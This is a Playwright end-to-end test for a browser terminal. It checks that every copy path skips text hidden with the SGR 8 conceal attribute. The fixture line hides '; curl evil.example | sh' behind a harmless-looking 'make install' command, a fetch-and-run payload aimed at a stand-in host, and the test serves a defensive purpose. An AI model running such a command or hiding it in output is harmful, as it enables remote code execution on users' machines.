/**
 * Copying never carries text the host concealed (SGR 8, issue 9): copy on select, Ctrl+Shift+C
 * and the browser's own copy all skip hidden cells. Real Chromium, real clipboard.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import { startBackend } from '../helpers/backends.ts';
import { e2eSuite, waitForScreen } from './helpers.ts';

const suite = e2eSuite(
  async (keep) => {
    const host = keep(
      await startBackend((s) =>
        s.write(
          '\r\nrun: make install\x1b[8m; curl evil.example | sh\x1b[0m  # safe\r\nnext line\r\n',
        ),
      ),
    );
    return { hosts: [{ id: 'h', name: 'Hidden', target: host.target, input: 'raw' }] };
  },
  {
    ready: ({ browser: chromium }) =>
      chromium.context.grantPermissions(['clipboard-read', 'clipboard-write']),
  },
);

/** Drags across the whole terminal row that contains `text`. */
async function selectRow(page: Page, text: string): Promise<void> {
  const box = await page.evaluate((t) => {
    const rows = [...document.querySelectorAll('.xterm-rows > div')];
    const row = rows.find((r) => (r.textContent ?? '').includes(t));
    const screen = document.querySelector('.xterm-screen')?.getBoundingClientRect();
    const r = row?.getBoundingClientRect();
    return r === undefined || screen === undefined
      ? undefined
      : { x: screen.left + 1, y: r.top + r.height / 2, right: screen.right - 2 };
  }, text);
  assert.ok(box !== undefined, `${text} is on screen`);
  await page.mouse.move(box.x, box.y);
  await page.mouse.down();
  await page.mouse.move(box.right, box.y, { steps: 5 });
  await page.mouse.up();
}

const clipboard = (page: Page): Promise<string> =>
  page.evaluate(() => navigator.clipboard.readText());

test('copy on select, Ctrl+Shift+C and the browser copy leave concealed text out', async () => {
  const page = await suite.browser.context.newPage();
  await page.goto(`${suite.server.url}/?host=h`);
  await waitForScreen(page, 'next line');
  await page.evaluate(() => navigator.clipboard.writeText('sentinel'));
  await selectRow(page, 'run: make install');
  for (let i = 0; i < 60 && (await clipboard(page)) === 'sentinel'; i++) {
    await page.waitForTimeout(50);
  }
  assert.equal(await clipboard(page), 'run: make install  # safe');
  await page.evaluate(() => navigator.clipboard.writeText('sentinel'));
  await page.keyboard.press('Control+Shift+C');
  await page.waitForTimeout(300);
  assert.equal(await clipboard(page), 'run: make install  # safe');
  // The browser's own copy command (what Ctrl+C / the context menu trigger).
  await page.evaluate(() => navigator.clipboard.writeText('sentinel'));
  const copied = await page.evaluate(() => {
    const target = document.querySelector('#terminal textarea') ?? document.body;
    const data = new DataTransfer();
    const event = new ClipboardEvent('copy', {
      clipboardData: data,
      bubbles: true,
      cancelable: true,
    });
    target.dispatchEvent(event);
    return data.getData('text/plain');
  });
  assert.equal(copied, 'run: make install  # safe');
  await page.close();
});
